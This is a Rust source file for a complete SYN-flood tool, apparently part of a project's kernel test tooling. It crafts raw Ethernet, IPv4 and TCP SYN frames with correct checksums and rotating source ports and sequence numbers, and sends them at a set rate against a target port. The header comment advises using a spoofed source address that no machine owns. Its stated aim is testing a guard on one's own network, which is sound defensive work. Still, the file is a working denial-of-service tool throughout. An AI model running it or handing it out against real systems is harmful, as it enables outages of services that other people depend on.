//! Floods one TCP port with SYNs, at a rate, from one address: to see what the guard does and what others notice.
//!
//! ```text
//! syn_flood INTERFACE DESTINATION-MAC SOURCE DESTINATION:PORT RATE SECONDS
//! ip netns exec peer syn_flood peer0 02:00:00:00:00:01 10.9.0.77 10.9.0.1:1883 200000 10
//! ```
//!
//! Take a source that no machine has: one that has it answers each SYN-ACK with an RST, which costs as much again.
//! Between two ends of a virtual cable the frames are received on the sender's time.
//!
//! Sends whole frames (root), with correct checksums and another source port and sequence number each. Only for
//! networks that are your own. At the end it prints how many were sent and how fast that was.

#[path = "../tests/kernel/frame_socket.rs"]
mod frame_socket;

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    process::ExitCode,
    time::{Duration, Instant},
};

use frame_socket::FrameSocket;

const USAGE: &str = "syn_flood INTERFACE DESTINATION-MAC SOURCE DESTINATION:PORT RATE SECONDS";
/// Frames go out in bursts that are so far apart.
const BURST: Duration = Duration::from_millis(1);

struct Flood {
    interface: String,
    mac: [u8; 6],
    source: Ipv4Addr,
    destination: SocketAddrV4,
    rate_per_s: u64,
    time: Duration,
}

fn main() -> ExitCode {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let Some(flood) = parse(&arguments) else {
        eprintln!("{USAGE}");
        return ExitCode::FAILURE;
    };
    let socket = FrameSocket::open(&flood.interface);
    let started = Instant::now();
    let mut sent = 0_u64;
    while started.elapsed() < flood.time {
        let due = (started.elapsed().as_secs_f64() * flood.rate_per_s as f64) as u64;
        // What cannot be sent in time is not made up for: the kernel handles each frame before it comes back.
        while sent < due && started.elapsed() < flood.time {
            socket.send(&syn(&flood, sent));
            sent += 1;
        }
        std::thread::sleep(BURST);
    }
    let seconds = started.elapsed().as_secs_f64();
    println!("{sent} SYNs in {seconds:.2} s: {:.0} a second", sent as f64 / seconds);
    ExitCode::SUCCESS
}

fn parse(arguments: &[String]) -> Option<Flood> {
    let [interface, mac, source, destination, rate, seconds] = arguments else {
        return None;
    };
    let bytes: Vec<u8> = mac.split(':').map(|byte| u8::from_str_radix(byte, 16)).collect::<Result<_, _>>().ok()?;
    Some(Flood {
        interface: interface.clone(),
        mac: bytes.try_into().ok()?,
        source: source.parse().ok()?,
        destination: destination.parse().ok()?,
        rate_per_s: rate.parse().ok()?,
        time: Duration::from_secs(seconds.parse().ok()?),
    })
}

/// Frame number `number`: Ethernet, IPv4, TCP with the option that says a segment's largest size.
fn syn(flood: &Flood, number: u64) -> Vec<u8> {
    let (source, destination) = (flood.source.octets(), flood.destination.ip().octets());
    let mut ip = vec![0x45, 0, 0, 44, 0, 0, 0x40, 0, 64, 6, 0, 0];
    ip.extend(source);
    ip.extend(destination);
    let sum = checksum(&[&ip]);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());

    let source_port = 1024 + (number % 64_000) as u16;
    let mut tcp = [source_port.to_be_bytes(), flood.destination.port().to_be_bytes()].concat();
    tcp.extend((number as u32).wrapping_mul(0x9e37_79b9).to_be_bytes());
    tcp.extend([0, 0, 0, 0, 6 << 4, 2, 0xff, 0xff, 0, 0, 0, 0, 2, 4, 0x05, 0xb4]);
    let sum = checksum(&[&source, &destination, &[0, 6, 0, tcp.len() as u8], &tcp]);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());

    let mut frame = flood.mac.to_vec();
    frame.extend([2, 0, 0, 0, 0, 0xf1, 0x08, 0x00]);
    frame.extend(ip);
    frame.extend(tcp);
    frame
}

/// RFC 1071, over parts of even length.
fn checksum(parts: &[&[u8]]) -> u16 {
    let pairs = parts.iter().flat_map(|part| part.chunks_exact(2));
    let mut sum: u32 = pairs.map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}
